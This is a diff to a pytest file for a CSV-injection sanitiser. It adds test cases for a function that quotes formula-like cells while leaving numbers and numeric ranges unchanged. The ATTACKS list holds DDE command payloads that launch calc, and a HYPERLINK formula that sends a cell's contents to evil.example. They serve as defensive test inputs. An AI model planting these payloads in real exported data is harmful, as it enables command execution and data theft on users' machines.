@@ -9,8 +9,8 @@ from feedback.store.tables import Annotation
 from feedback.ui.tables import safe_cell, safe_table
 
 # OWASP, "CSV Injection": prefix cells starting with = + - @ tab or carriage return with a single quote.
-ATTACKS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")']
+ATTACKS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1 to 2+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")']
 
 
 @pytest.mark.parametrize("text", ATTACKS)
@@ -19,7 +19,7 @@ def test_a_formula_cell_gets_a_quote_in_front(text):
 
 
 @pytest.mark.parametrize("value", ["a fine answer", "", "x = 1", "'=already quoted", "-3", "+4.5", "-0.25e3", 7,
-                                   -3, -0.5, None])
+                                   -3, -0.5, None, "-0.365 to 0.182", "-0.500 to -0.125"])
 def test_text_that_is_no_formula_and_numbers_are_unchanged(value):
     assert safe_cell(value) == value
 
